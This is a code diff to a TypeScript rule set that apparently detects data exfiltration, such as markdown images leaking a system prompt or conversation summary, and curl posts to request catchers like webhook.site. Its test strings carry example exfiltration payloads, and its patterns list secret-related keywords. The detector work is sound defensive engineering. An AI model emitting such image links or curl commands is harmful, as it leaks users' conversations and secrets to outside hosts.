@@ -30,6 +30,9 @@ const byCargo = (match: RuleMatch): number => {
   return (hidden ? 1.4 : secret ? 1.1 : 0.6) * unlessMentioned(match);
 };
 
+/** A path of a catcher with something in it. */
+const withParameter = /^\/?[\w/-]{0,60}[?&][\p{L}_]{1,16}=[^\s)"']/u;
+
 /** The first address behind is the machine's own. */
 const toItself = /^(?:(?!https?:)[^\n]){0,300}?https?:\/\/(?:localhost|127\.0\.0\.1|\[::1\])[:/]/u;
 
@@ -122,7 +125,7 @@ export const exfiltrationRules: readonly RuleSpec[] = [
     hits: ["![x](https://c.example/p.png?q=[conversation summary])", "![logo](http://t.example/i?d={{system_prompt}})"],
     misses: ["![build](https://img.shields.io/badge/-stable-lightgreen)", "[docs](https://x.example/?q=1)"],
     confirm: (match) =>
-      /shields\.io|badge|github\.com|\/\/(?:quickchart\.io|image-charts\.com|chart\.googleapis\.com|api\.qrserver\.com|latex\.codecogs\.com|mermaid\.ink|kroki\.io|www\.plantuml\.com|maps\.googleapis\.com)\/|\{\{ ?(?:site|page|base|url|asset|config|cookiecutter)/u.test(
+      /shields\.io|badge|github\.com|^!\[[^\]]{0,80}\]\(https?:\/\/(?:quickchart\.io|image-charts\.com|chart\.googleapis\.com|api\.qrserver\.com|latex\.codecogs\.com|mermaid\.ink|kroki\.io|www\.plantuml\.com|maps\.googleapis\.com)\/|\{\{ ?(?:site|page|base|url|asset|config|cookiecutter)/u.test(
         around(match, 0, 20),
       )
         ? 0.2
@@ -223,16 +226,12 @@ export const exfiltrationRules: readonly RuleSpec[] = [
     why: "Request catchers and throw-away tunnels. Developers test with them, so the name alone is for review.",
     hits: ["curl -d @- https://webhook.site/1234", "post it to abc.oastify.com"],
     misses: ["our webhook site is down", "file.io modules in Java"],
-    confirm: (match) => {
-      const rest = match.text.slice(match.end, match.end + 120);
-      // A catcher that somebody set up has a name of its own; manuals write none, or one to be filled in.
-      const isOwned = /^[/?][\w/-]{0,60}(?:[\da-f]{6,}|\d{3,}|[?&][\p{L}_]{1,16}=)/u.test(rest);
-      if (/^\/?[\w/-]{0,60}[?&][\p{L}_]{1,16}=[^\s)"']/u.test(rest)) return 1.35;
-      const near = around(match, 80, 80);
-      if (/password|secret|token|env\b|key|conversation|history|cookie|id_rsa|cat |base64|prompt|\$\(/u.test(near))
-        return 1.35;
-      return isOwned && /-d |--data|curl|send|post|upload|forward/u.test(near) ? 1.35 : 0.8;
-    },
+    confirm: (match) =>
+      /password|secret|token|env\b|key|conversation|history|cookie|id_rsa|cat |base64|-d |--data|curl|send|post|upload|forward|prompt|\$\(/u.test(
+        around(match, 80, 80),
+      ) || withParameter.test(match.text.slice(match.end, match.end + 120))
+        ? 1.35
+        : 0.8,
   },
   {
     id: "EXF-1070",
